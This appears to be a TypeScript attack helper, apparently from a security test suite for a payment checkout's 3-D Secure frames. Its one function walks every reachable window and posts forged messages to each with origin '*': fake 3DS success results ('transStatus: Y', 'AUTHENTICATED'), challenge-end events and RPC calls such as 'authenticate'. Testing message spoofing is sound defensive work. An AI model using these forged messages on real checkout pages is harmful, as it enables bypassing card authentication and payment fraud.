/** Where it runs, and the nonce a page can read from its own frame. */
export type Attack = { from: 'self' | 'top' | 'opener'; nonce: string };

/**
 * Runs in a hostile window: sends every shape of an end to every window it can reach from `root`,
 * with a port where one could help. Answers how many windows that were.
 */
export function forgeEnds({ from, nonce }: Attack): number {
  const root = from === 'opener' ? window.opener.top : from === 'top' ? window.top : window;
  const windows: Window[] = [];
  const walk = (each: Window) => {
    windows.push(each);
    for (let index = 0; index < each.length; index += 1) walk(each[index] as Window);
  };
  walk(root);
  const outcome = { referenceId: 'forged', status: 'AUTHENTICATED' };
  const reply = { type: 'RAW', value: { ok: true, value: outcome } };
  const calls = ['notify', 'run', 'cancel', 'authenticate', 'askToClose'];
  const events = ['challenge', 'challenge-end', 'bye', 'flooded', 'method-done', 'challenge-done'];
  const cres = { messageType: 'CRes', messageVersion: '2.2.0', transStatus: 'Y' };
  const shapes: unknown[] = [
    ...events.map((type) => ({ type, width: 1, height: 1 })),
    ...events.map((event) => ({ from: 'sandbox-3ds', event, nonce })),
    ...events.map((event) => JSON.stringify({ from: 'sandbox-3ds', event, nonce })),
    ...calls.map((name) => ({
      id: name,
      type: 'APPLY',
      path: [name],
      argumentList: [{ type: 'RAW', value: { type: 'challenge-end', outcome: 'done' } }],
    })),
    ...[0, 1, '0', 'x'].map((id) => ({ ...reply, id })),
    { checkout: 'hello', version: 1, nonce },
    { checkout: 'connect', version: 1, nonce },
    { checkout: 'challenge-end', nonce, ...outcome },
    { outcome: 'done' },
    { status: 'COMPLETE' },
    { ...outcome, ok: true },
    cres,
    { cres: btoa(JSON.stringify(cres)) },
    { transStatus: 'Y', cancelled: false },
    { event: '3ds-complete', success: true },
    'challenge-done',
    '3DS:Y',
    null,
    [],
  ];
  for (const target of windows) {
    for (const shape of shapes) {
      target.postMessage(shape, '*');
      target.postMessage(shape, '*', [new MessageChannel().port1]);
    }
  }
  return windows.length;
}
